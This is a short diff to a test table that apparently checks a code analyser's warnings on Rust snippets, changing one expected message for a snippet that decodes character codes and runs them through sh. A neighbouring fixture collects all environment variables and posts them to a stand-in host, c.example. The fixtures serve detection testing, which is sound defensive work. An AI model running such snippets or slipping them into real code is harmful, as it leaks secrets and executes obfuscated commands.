@@ -38,7 +38,7 @@ test.each([
   ],
   [
     `let text = "1 2".split(' ').filter_map(|c| c.parse::<u8>().ok()).map(|c| (c ^ 9) as char).collect::<String>(); Command::new("sh").arg("-c").arg(text).status();`,
-    ["run \b\u000b by sh <- decoded:character codes"],
+    ["run \b by sh <- decoded:character codes"],
   ],
   [
     `let all = env::vars().map(|(k, v)| format!("{k}={v}")).collect::<String>(); reqwest::Client::new().post("https://c.example").body(all).send();`,
